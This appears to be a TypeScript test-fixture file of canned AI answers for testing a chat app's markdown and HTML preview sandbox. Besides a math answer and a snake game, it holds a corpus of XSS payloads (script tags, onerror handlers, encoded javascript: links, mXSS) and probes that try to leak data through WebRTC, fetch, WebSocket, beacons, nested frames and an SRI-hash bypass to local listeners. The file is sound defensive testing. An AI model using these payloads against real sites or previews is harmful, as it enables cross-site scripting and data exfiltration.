/** Model answers the rendering specs script into the fake backends. */

export const richAnswer = `## Chickens and rabbits

Let $c$ be the chickens and $r$ the rabbits. Heads and legs give two equations:

$$
\\begin{aligned}
c + r &= 35 \\\\
2c + 4r &= 94
\\end{aligned}
$$

Subtracting twice the first from the second, \\(2r = 24\\), so:

\\[ \\boxed{r = 12,\\ c = 23} \\]

| animal | count | legs |
|---|--:|--:|
| chickens | 23 | 46 |
| rabbits | 12 | 48 |
| **total** | **35** | **94** |

Check it in Python:

\`\`\`python
def solve(heads: int, legs: int) -> tuple[int, int]:
    rabbits = (legs - 2 * heads) // 2  # each rabbit adds two legs
    return heads - rabbits, rabbits

print(solve(35, 94))  # (23, 12)
\`\`\`

- [x] two equations
- [x] one unknown eliminated
- [ ] a [general formula](https://en.wikipedia.org/wiki/System_of_linear_equations)
`;

/**
 * A snake game that moves by itself and turns with the arrow keys, plus a probe that tries to
 * reach out of its sandbox and writes what happened into #probe.
 */
export function snakeGame({ colour, fragment }: { colour: string; fragment: boolean }) {
  const css = `body { margin: 0; display: grid; place-items: center; min-height: 100vh; background: #111827; font: 12px system-ui; color: #9ca3af; }
canvas { background: #030712; border: 2px solid #374151; border-radius: 6px; }
#probe { position: fixed; left: 6px; bottom: 4px; margin: 0; font-size: 10px; white-space: pre-wrap; }`;
  const js = `const canvas = document.getElementById('board');
const ctx = canvas.getContext('2d');
const size = 16, cells = 20;
let snake = [{ x: 5, y: 10 }, { x: 4, y: 10 }, { x: 3, y: 10 }];
let dir = { x: 1, y: 0 };
let food = { x: 12, y: 7 };
window.direction = 'right';
const turns = { ArrowUp: [0, -1, 'up'], ArrowDown: [0, 1, 'down'], ArrowLeft: [-1, 0, 'left'], ArrowRight: [1, 0, 'right'] };
document.addEventListener('keydown', (event) => {
  const turn = turns[event.key];
  if (!turn) return;
  event.preventDefault();
  dir = { x: turn[0], y: turn[1] };
  window.direction = turn[2];
});
function step() {
  const head = { x: (snake[0].x + dir.x + cells) % cells, y: (snake[0].y + dir.y + cells) % cells };
  snake.unshift(head);
  if (head.x === food.x && head.y === food.y) food = { x: (food.x * 7 + 3) % cells, y: (food.y * 5 + 1) % cells };
  else snake.pop();
  ctx.fillStyle = '#030712';
  ctx.fillRect(0, 0, canvas.width, canvas.height);
  ctx.fillStyle = '#f43f5e';
  ctx.fillRect(food.x * size + 2, food.y * size + 2, size - 4, size - 4);
  ctx.fillStyle = '${colour}';
  for (const part of snake) ctx.fillRect(part.x * size + 1, part.y * size + 1, size - 2, size - 2);
}
setInterval(step, 80);
step();

// What an escaping preview would try.
const probe = {};
const attempt = (name, action) => {
  try { const value = action(); probe[name] = value === undefined || value === null ? 'blocked' : 'LEAKED: ' + String(value).slice(0, 40); }
  catch (error) { probe[name] = 'blocked'; }
};
attempt('parentDocument', () => parent.document.title);
attempt('cookie', () => document.cookie || null);
attempt('localStorage', () => localStorage.getItem('versus-secret') ?? 'reachable');
attempt('popup', () => window.open('https://example.com/popup'));
attempt('topNavigation', () => { top.location.href = '/?escaped=1'; });
fetch('/api/conversations').then(
  (response) => { probe.fetch = 'LEAKED: HTTP ' + response.status; },
  () => { probe.fetch = 'blocked'; },
).finally(() => {
  document.getElementById('probe').textContent = JSON.stringify(probe);
});`;
  const body = `<canvas id="board" width="320" height="320" tabindex="0"></canvas>
<pre id="probe"></pre>`;
  if (fragment) {
    return `Here is a snake game in three parts.

\`\`\`html
${body}
\`\`\`

\`\`\`css
${css}
\`\`\`

\`\`\`javascript
${js}
\`\`\`

Use the arrow keys.`;
  }
  return `Here is a complete snake game:

\`\`\`html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Snake</title>
<style>
${css}
</style>
</head>
<body>
${body}
<script>
${js}
</script>
</body>
</html>
\`\`\`

Open it and use the arrow keys.`;
}

/** Markdown that tries every way into the app's DOM; each payload would set window.__pwned. */
export const hostileAnswer = [
  'Hostile corpus.',
  '<script>window.__pwned = "script"</script>',
  '<img src="http://127.0.0.1:9/leak-img" onerror="window.__pwned = \'onerror\'">',
  '<iframe src="http://127.0.0.1:9/leak-iframe" onload="window.__pwned = \'iframe\'"></iframe>',
  '<svg><script>window.__pwned = "svg"</script></svg>',
  '<svg onload="window.__pwned = \'svg-onload\'"><circle r="5"/></svg>',
  '<a href="javascript:window.__pwned=\'raw-link\'">raw link</a>',
  "[md link](javascript:window.__pwned='md-link')",
  "[entity link](&#106;avascript:window.__pwned='entity')",
  "[encoded](jav&#x09;ascript:window.__pwned='tab')",
  '[data link](data:text/html,<script>window.__pwned=1</script>)',
  '![pixel](http://127.0.0.1:9/leak-pixel.png)',
  '![broken](x" onerror="window.__pwned=\'md-img\')',
  '<details open ontoggle="window.__pwned = \'details\'">x</details>',
  '<style>body { background: url(http://127.0.0.1:9/leak-css) }</style>',
  '<object data="http://127.0.0.1:9/leak-object"></object>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'">',
  '&lt;script&gt;window.__pwned = "entities"&lt;/script&gt;',
  '$\\href{javascript:window.__pwned=1}{katex link}$ and $\\url{http://127.0.0.1:9/leak-katex}$',
  '```html\n<script>window.__pwned = "code"</script>\n```',
  'End of corpus.',
].join('\n\n');

/**
 * An HTML answer that tries every way out of its preview we know of: WebRTC (STUN and TURN over
 * UDP, from the page, its inline handlers, nested frames and copies of its own allowed scripts)
 * and HTTP. It writes each outcome into #probe and sets data-done when it has waited long enough
 * for the nested frames to report.
 */
export function exfiltrationProbe({
  app,
  ...ports
}: {
  app: string;
  stun: number;
  turn: number;
  http: number;
  quic: number;
}) {
  const http = `http://127.0.0.1:${ports.http}`;
  // One function, as text, so nested documents can carry their own copy. No double quotes and no
  // closing script tag in it: it also lives in attributes and inside srcdoc strings.
  const rtcAttempt = `(label, Ctor, report) => {
  try {
    if (typeof Ctor !== 'function') { report(label, 'blocked: no RTCPeerConnection'); return; }
    const pc = new Ctor({ iceCandidatePoolSize: 1, iceServers: [
      { urls: 'turn:127.0.0.1:${ports.turn}?transport=udp', username: 'leak-' + label, credential: 'x' },
      { urls: 'stun:127.0.0.1:${ports.stun}' },
    ] });
    pc.createDataChannel('probe');
    pc.createOffer().then((offer) => pc.setLocalDescription(offer)).then(
      () => report(label, 'LEAKED: offer set'),
      (error) => report(label, 'blocked: ' + error.name),
    );
  } catch (error) { report(label, 'blocked: ' + error.name); }
}`;
  const toParent = `(label, outcome) => parent.postMessage({ label, outcome }, '*')`;
  // A script the page never had: a nested document runs it in a realm of its own.
  const freshChild = `(${rtcAttempt})(name, window.RTCPeerConnection, ${toParent});`;
  // Shadows what a prelude might name, so a prelude that uses them fails in the copy's realm.
  const shadowing = `let globalThis = 0, self = 0, Object = 0, Reflect = 0;
if (name === 'copyShadow' || name === 'copyShadowModule') (${rtcAttempt})(name, RTCPeerConnection, ${toParent});`;
  const main = `(() => {
  const rtcAttempt = ${rtcAttempt};
  // A copy of this very script, running in a nested document.
  if (name === 'copy' || name === 'copyModule') {
    rtcAttempt(name, window.RTCPeerConnection, ${toParent});
    setTimeout(() => { location.href = '${http}/copy-navigate'; }, 300);
    return;
  }
  const outcomes = {};
  for (const label of ['rtc', 'webkit', 'bodyOnload', 'onclick', 'scriptChild', 'markupChild',
    'copy', 'copyModule', 'copyShadow', 'copyShadowModule', 'fetch', 'img', 'image', 'webSocket',
    'beacon', 'webTransport', 'sriListener', 'sriApp']) outcomes[label] = 'no report';
  const probe = document.getElementById('probe');
  const record = (label, outcome) => {
    outcomes[label] = outcome;
    probe.textContent = JSON.stringify(outcomes);
  };
  window.rtcProbe = (label, Ctor) => rtcAttempt(label, Ctor, record);
  addEventListener('message', (event) => {
    if (event.data && event.data.label in outcomes) record(event.data.label, event.data.outcome);
  });

  rtcAttempt('rtc', window.RTCPeerConnection, record);
  rtcAttempt('webkit', window.webkitRTCPeerConnection, record);
  document.getElementById('rtc-button').click();

  const close = '</' + 'script>';
  const child = (name, html) => {
    const frame = document.createElement('iframe');
    frame.name = name;
    frame.srcdoc = html;
    document.body.append(frame);
  };
  const own = document.currentScript.textContent;
  const shadow = document.getElementById('shadow').getAttribute('onclick');
  child('scriptChild', '<script>' + ${JSON.stringify(freshChild)} + close);
  child('copy', '<script>' + own + close);
  child('copyModule', '<script type=module>' + own + close);
  child('copyShadow', '<script>' + shadow + close);
  child('copyShadowModule', '<script type=module>' + shadow + close);

  fetch('${http}/fetch?secret=1').then(() => record('fetch', 'LEAKED'), () => record('fetch', 'blocked'));
  const img = document.createElement('img');
  img.onload = () => record('img', 'LEAKED');
  img.onerror = () => record('img', 'blocked');
  img.src = '${http}/img?secret=1';
  document.body.append(img);
  const image = new Image();
  image.onload = () => record('image', 'LEAKED');
  image.onerror = () => record('image', 'blocked');
  image.src = '${http}/image?secret=1';
  try {
    const socket = new WebSocket('ws://127.0.0.1:${ports.http}/socket?secret=1');
    socket.onopen = () => record('webSocket', 'LEAKED');
    socket.onerror = () => record('webSocket', 'blocked');
  } catch (error) { record('webSocket', 'blocked: ' + error.name); }
  try {
    record('beacon', 'sendBeacon returned ' + navigator.sendBeacon('${http}/beacon', 'secret=1'));
  } catch (error) { record('beacon', 'blocked: ' + error.name); }
  try {
    new WebTransport('https://127.0.0.1:${ports.quic}/transport').ready.then(
      () => record('webTransport', 'LEAKED'), () => record('webTransport', 'blocked'));
  } catch (error) { record('webTransport', 'blocked: ' + error.name); }
  // An external script whose integrity is the hash of an allowed inline script: a policy of
  // hashes alone lets it load. Whether a policy refused it shows as a violation event.
  const refused = [];
  document.addEventListener('securitypolicyviolation', (event) => refused.push(event.blockedURI));
  const withIntegrity = (label, url) => {
    try {
      crypto.subtle.digest('SHA-256', new TextEncoder().encode(own)).then((digest) => {
        const script = document.createElement('script');
        script.integrity = 'sha256-' + btoa(String.fromCharCode(...new Uint8Array(digest)));
        const settle = () => setTimeout(() => record(label, refused.some((uri) => uri && url.startsWith(uri))
          ? 'blocked' : 'LEAKED: requested'), 200);
        script.onload = settle;
        script.onerror = settle;
        script.src = url;
        document.body.append(script);
      });
    } catch (error) { record(label, 'no digest: ' + error.name); }
  };
  withIntegrity('sriListener', '${http}/script?secret=1');
  withIntegrity('sriApp', '${app}/api/backends?secret=1');
  setTimeout(() => { probe.dataset.done = 'true'; }, 2000);
})();`;
  const attribute = (value: string) => value.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  return `A page that checks its own sandbox.

\`\`\`html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Probe</title>
<style>body { font: 11px monospace; } iframe { width: 40px; height: 20px; }</style>
</head>
<body onload="window.rtcProbe('bodyOnload', window.RTCPeerConnection)">
<pre id="probe"></pre>
<button id="rtc-button" onclick="window.rtcProbe('onclick', RTCPeerConnection)">WebRTC</button>
<button id="navigate" onclick="location.href = '${http}/navigate?secret=1'">Navigate</button>
<div id="shadow" hidden onclick="${attribute(shadowing)}"></div>
<iframe name="markupChild" srcdoc="${attribute(`<script>${freshChild}</script>`)}"></iframe>
<iframe srcdoc="${attribute(`<meta http-equiv="refresh" content="0;url=${http}/refresh">`)}"></iframe>
<script>
${main}
</script>
</body>
</html>
\`\`\`
`;
}
